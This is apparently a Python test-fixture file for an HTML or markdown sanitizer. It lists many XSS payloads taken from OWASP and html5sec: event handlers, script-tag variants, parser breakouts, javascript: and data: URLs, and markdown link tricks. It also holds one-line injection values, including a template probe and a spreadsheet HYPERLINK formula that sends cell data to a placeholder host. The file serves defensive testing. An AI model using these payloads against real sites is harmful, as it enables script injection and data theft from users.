"""What a hostile author writes: texts that run a script where one place forgets to clean them.

The facts are those of OWASP's filter evasion cheat sheet and of html5sec; the texts are our own.
Every one calls ``alert``, which the tests listen to, or asks ``canary.invalid`` for something.
"""

from __future__ import annotations

CANARY = "canary.invalid"
"""A host that there is not; a browser that asks for it has been made to."""

_HANDLERS = """
    <img src=x onerror=alert(1)>
    <img src=x onerror="alert(1)"//
    <IMG SRC=x OnErRoR=alert(1)>
    <img/src=x/onerror=alert(1)>
    <img src=x:x onerror&#61;alert(1) onerror=&#97;lert(1)>
    <img \"\"\"><script>alert(1)</script>">
    <body onload=alert(1)>
    <body onpageshow=alert(1)><br>
    <svg onload=alert(1)>
    <svg/onload=alert(1)//
    <svg><animate onbegin=alert(1) attributeName=x dur=1s>
    <svg><set attributeName=onmouseover to=alert(1)>
    <details open ontoggle=alert(1)>x</details>
    <marquee onstart=alert(1)>x</marquee>
    <video src=x onerror=alert(1)></video>
    <video><source onerror=alert(1)></video>
    <audio src=x onerror=alert(1)>
    <input autofocus onfocus=alert(1)>
    <select autofocus onfocus=alert(1)><option>x</select>
    <textarea autofocus onfocus=alert(1)>x</textarea>
    <button autofocus onfocus=alert(1)>x</button>
    <a href=#x id=x tabindex=1 autofocus onfocus=alert(1)>x</a>
    <div contenteditable autofocus onfocus=alert(1)>x</div>
    <style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(1)>x</p>
    <p style=transition:color+1s ontransitionend=alert(1)>x</p>
    <iframe onload=alert(1)></iframe>
    <object onerror=alert(1) data=x></object>
    <embed src=x onload=alert(1)>
    <link rel=stylesheet href=x onerror=alert(1)>
    <p onmouseover=alert(1) onclick=alert(1)>x</p>
    <b onpointerenter="alert(1)">x</b>
    <table onclick=alert(1)><td onclick=alert(1)>x</table>
    <keygen autofocus onfocus=alert(1)>
    <dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
"""
_SCRIPTS = """
    <script>alert(1)</script>
    <SCRIPT SRC=//canary.invalid/1.js></SCRIPT>
    <script/src=data:,alert(1)></script>
    <scr<script>ipt>alert(1)</scr</script>ipt>
    <<script>alert(1)//<</script>
    <script >alert(1)</script >
    <script x=">" >alert(1)</script>
    <script>alert(1)//
    <script type=module>alert(1)</script>
    <script type=text/vbscript>alert(1)</script>
    <svg><script>alert(1)</script></svg>
    <svg><script href=data:,alert(1) /></svg>
    <svg><script>alert&#40;1)</script></svg>
    <math><script>alert(1)</script></math>
    <noscript><script>alert(1)</script></noscript>
    <template><script>alert(1)</script></template>
    <template shadowrootmode=open><script>alert(1)</script></template>
    <xml:script>alert(1)</xml:script>
    <!--><script>alert(1)</script>-->
    <!--<img src="--><img src=x onerror=alert(1)//">
    <![CDATA[<script>alert(1)</script>]]>
    <?xml version="1.0"?><script>alert(1)</script>
    <? foo="><script>alert(1)</script>">
    <! foo="><script>alert(1)</script>">
    </ foo="><script>alert(1)</script>">
"""
_BREAKOUTS = """
    <noscript><p title="</noscript><img src=x onerror=alert(1)>">
    <style><a title="</style><img src=x onerror=alert(1)>">
    <textarea><a title="</textarea><img src=x onerror=alert(1)>">
    <title><a title="</title><img src=x onerror=alert(1)>">
    <xmp><a title="</xmp><img src=x onerror=alert(1)>">
    <iframe><a title="</iframe><img src=x onerror=alert(1)>">
    <noembed><a title="</noembed><img src=x onerror=alert(1)>">
    <noframes><a title="</noframes><img src=x onerror=alert(1)>">
    <plaintext><img src=x onerror=alert(1)>
    <math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">
    <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
    <svg></p><style><a title="</style><img src=x onerror=alert(1)>">
    <svg><desc><img src=x onerror=alert(1)></desc></svg>
    <svg><title><a title="</title><img src=x onerror=alert(1)>"></svg>
    <svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
    <math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></math>
    <math><mi><style></mi><img src=x onerror=alert(1)></style></math>
    <table><caption><svg><title></caption><img src=x onerror=alert(1)></table>
    <select><style></select><img src=x onerror=alert(1)></style>
    <a title="&lt;/a&gt;<img src=x onerror=alert(1)>">x</a>
    <abbr title='"><img src=x onerror=alert(1)>'>x</abbr>
    <ol start='1"><script>alert(1)</script>'><li>x</ol>
    <td colspan='"><img src=x onerror=alert(1)>'>x</td>
    <p lang='"><svg onload=alert(1)>'>x</p>
    <q cite="javascript:alert(1)">x</q>
    <p></p></div></main></body></html><script>alert(1)</script>
    <b<i onclick=alert(1)>x
    <a href="x"onclick=alert(1)>x</a>
    <p>&lt;script&gt;alert(1)&lt;/script&gt;</p>
    &#60;script&#62;alert(1)&#60;/script&#62;
    &amp;lt;img src=x onerror=alert(1)&amp;gt;
"""
_ADDRESSES = """
    <a href="javascript:alert(1)">x</a>
    <a href="JaVaScRiPt:alert(1)">x</a>
    <a href=" javascript:alert(1)">x</a>
    <a href="java&#9;script:alert(1)">x</a>
    <a href="java&#x0A;script:alert(1)">x</a>
    <a href="java&NewLine;script&colon;alert(1)">x</a>
    <a href="&#1;javascript:alert(1)">x</a>
    <a href="javascript&#58;alert(1)">x</a>
    <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
    <a href="&#0000106avascript:alert(1)">x</a>
    <a href="javascript://canary.invalid/%0aalert(1)">x</a>
    <a href="javascript:alert(1)//x.md">x</a>
    <a href="java&#9;script:alert(1)//x.md">x</a>
    <a href="vbscript:alert(1)">x</a>
    <a href="data:text/html,<script>alert(1)</script>">x</a>
    <a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
    <a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">x</a>
    <a href="blob:https://canary.invalid/1">x</a>
    <a href="x:javascript:alert(1)" ping="https://canary.invalid/ping">x</a>
    <a xlink:href="javascript:alert(1)">x</a>
    <svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
    <svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"></svg>
    <math href="javascript:alert(1)">x</math>
    <form action="javascript:alert(1)"><button>x</button></form>
    <form id=f></form><button form=f formaction="javascript:alert(1)">x</button>
    <isindex action="javascript:alert(1)">
    <iframe src="javascript:alert(1)"></iframe>
    <iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
    <iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;"></iframe>
    <object data="javascript:alert(1)"></object>
    <object data="data:text/html,<script>alert(1)</script>"></object>
    <embed src="javascript:alert(1)">
    <frameset><frame src="javascript:alert(1)"></frameset>
    <base href="https://canary.invalid/">
    <meta http-equiv="refresh" content="0;url=https://canary.invalid/">
    <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
    <meta http-equiv="Content-Security-Policy" content="script-src *">
    <link rel=stylesheet href="https://canary.invalid/1.css">
    <link rel=import href="https://canary.invalid/1.html">
    <link rel=preload as=script href="https://canary.invalid/1.js">
    <link rel=manifest href="https://canary.invalid/1.json">
    <style>@import "https://canary.invalid/1.css";</style>
    <p style="background:url(https://canary.invalid/1.png)">x</p>
    <p style="width:expression(alert(1))">x</p>
    <p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>
    <table background="https://canary.invalid/1.png"><td background="javascript:alert(1)">x</table>
    <img src="https://canary.invalid/1.png">
    <img srcset="https://canary.invalid/1.png 1x, x onerror=alert(1)">
    <picture><source srcset="https://canary.invalid/2.png"><img src="https://canary.invalid/3.png"></picture>
    <input type=image src="https://canary.invalid/1.png">
    <video poster="https://canary.invalid/1.png"></video>
    <audio src="https://canary.invalid/1.mp3" autoplay></audio>
    <track src="https://canary.invalid/1.vtt">
    <bgsound src="https://canary.invalid/1.mp3">
    <image src="https://canary.invalid/1.png">
"""
_MARKDOWN = """
    [x](javascript:alert(1))
    [x](<javascript:alert(1)>)
    [x](JAVASCRIPT:alert(1) "t")
    [x](java\tscript:alert(1))
    [x](javascript&colon;alert(1))
    [x](\\x01javascript:alert(1))
    [x](vbscript:alert(1))
    [x](data:text/html,<script>alert(1)</script>)
    [x](x "\\"><script>alert(1)</script>")
    [x](x 'a" onmouseover="alert(1)')
    [x]("onmouseover=alert(1)//)
    [x](javascript:alert(1)//y.md)
    [x]: javascript:alert(1)\n\n[x] [y][x]
    [x]: <java script:alert(1)> "t"\n\n[x]
    <javascript:alert(1)>
    <javascript://x@y.example>
    ![x](javascript:alert(1))
    ![x](x"onerror="alert(1))
    ![x"onerror="alert(1)](x.png)
    ![<script>alert(1)</script>](x.png "<img src=x onerror=alert(1)>")
    ![x](https://canary.invalid/1.png)
    ![x](data:image/svg+xml,<svg/onload=alert(1)>)
    [![x](javascript:alert(1))](javascript:alert(1))
    `<script>alert(1)</script>`
    ```\n<script>alert(1)</script>\n```
    # <script>alert(1)</script>
    > <script>alert(1)</script>
    - <script>alert(1)</script>
    | <script>alert(1)</script> |\n|--|\n| <img src=x onerror=alert(1)> |
    **<img src=x onerror=alert(1)>**
    <b>[x](javascript:alert(1))</b>
    <div>\n\n[x](javascript:alert(1))\n\n</div>
    <p>[x](javascript:alert(1))</p>
    *[<script>]: x
    \x02figure:0\x03
    &#2;figure:0&#3;
    \x02wzxhzdk:0\x03<img src=x onerror=alert(1)>
    &#x2;amp&#x3;lt;script>alert(1)&lt;/script>
"""


def _cases(text: str) -> list[str]:
    return [line.strip(" ").replace("\\n", "\n") for line in text.split("\n    ") if line.strip()]


BODIES: list[str] = [
    case.rstrip("\n")
    for group in (_HANDLERS, _SCRIPTS, _BREAKOUTS, _ADDRESSES, _MARKDOWN)
    for case in _cases(group)
]
"""Texts of articles, a case each."""

VALUES: list[str] = [
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "<!--<script>alert(1)",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ ''.__class__ }}{% include 'home.html' %}",
    "${alert(1)}`'\"\\",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "&lt;img src=x onerror=alert(1)&gt;",
    "javascript:alert(1)",
    '=HYPERLINK("https://canary.invalid/"&A1)',
    "</textarea></noscript></template><img src=x onerror=alert(1)>",
]
"""Texts of one line, for all the places that hold one: headlines, names, captions."""
